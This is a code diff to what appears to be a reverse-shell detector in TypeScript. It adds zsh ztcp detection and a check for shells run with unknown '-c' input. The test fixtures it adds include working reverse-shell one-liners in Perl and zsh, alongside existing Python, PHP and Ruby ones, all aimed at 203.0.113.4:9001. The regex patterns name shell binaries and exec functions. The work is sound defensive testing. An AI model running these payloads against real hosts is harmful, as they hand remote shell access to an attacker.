@@ -31,6 +31,9 @@ const literals: Literals[] = [
 const shell = /(?:^|\/)(?:ba|z|da|k|a|c|tc)?sh$|(?:^|\/)(?:cmd(?:\.exe)?|powershell|pwsh)$/;
 const isBareShell = (process: ProcessAction) =>
   shell.test(process.image) && process.argv.slice(1).every((word) => /^-[a-z]+$/.test(word) && word !== '-c');
+/** A shell that code hands something to which is not known before it comes in. */
+const runsUnknown = ([program = '', option, command = 'x']: readonly string[]) =>
+  shell.test(program) && option === '-c' && /^(?:$|[${])/.test(command);
 const receives = /(?:^|\.)(?:recv\w*|receive|gets?s?|gets\.\w+!?|readline|read|on|accept\.\w+)$/;
 const runs =
   /(?:^|\.)(?:popen|IO\.popen|system|exec|execSync|spawn|spawnSync|getoutput|check_output|Popen|run|call|shell_exec|passthru|proc_open|open3|qx|`|eval)$/i;
@@ -59,10 +62,14 @@ function byCall(actions: readonly Action[]): Call[] {
 
 function channelIn({ connections, processes, code }: Call, actions: readonly Action[]): Action | undefined {
   const received = processes.find(
-    ({ image, connected, downloaded }) =>
-      (/^[${]/.test(image) && connected !== undefined) || downloaded?.startsWith('tcp://') === true,
+    ({ image, argv, connected, downloaded }) =>
+      (connected !== undefined && (/^[${]/.test(image) || runsUnknown(argv))) ||
+      downloaded?.startsWith('tcp://') === true,
   );
   if (received !== undefined) return received;
+  // zsh opens connections by a command of its own
+  const opened = processes.find(({ image, argv }) => image.endsWith('/ztcp') && argv.length > 1);
+  if (opened !== undefined && processes.some(isBareShell)) return opened;
   const bare = connections.filter(
     (one) => one.url === undefined && /^(?:tcp|udp|ssl)$/.test(one.protocol ?? ''),
   );
@@ -142,12 +149,15 @@ const detector: Detector = {
           "import socket, subprocess\ns = socket.socket()\ns.connect(('203.0.113.4', 9001))\nwhile True:\n    c = s.recv(1024).decode()\n    s.send(subprocess.getoutput(c).encode())\n",
       },
       `php -r '$s=fsockopen("203.0.113.4",9001);$p=proc_open("/bin/sh -i", array(0=>$s, 1=>$s, 2=>$s), $pipes);'`,
+      `perl -MIO -e '$c=new IO::Socket::INET(PeerAddr,"203.0.113.4:9001");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'`,
+      "zsh -c 'zmodload zsh/net/tcp && ztcp 203.0.113.4 9001 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY'",
       `ruby -rsocket -e 'c=TCPSocket.new("203.0.113.4","9001");while l=c.gets;IO.popen(l,"r"){|io|c.print io.read};end'`,
     ],
     ignore: [
       { python: "import socket\ns = socket.socket()\ns.connect(('localhost', 8000))\nprint(s.recv(10))\n" },
       { python: "import subprocess\ncmd = ['ls']\nprint(subprocess.check_output(cmd))\n" },
       'exec 3<>/dev/tcp/localhost/6379; echo PING >&3; head -1 <&3',
+      "zsh -c 'zmodload zsh/net/tcp && ztcp localhost 6379 && echo PING >&$REPLY'",
       {
         python:
           "import socket, subprocess\nsubprocess.run(['make'])\nsocket.create_connection(('db', 5432))\n",
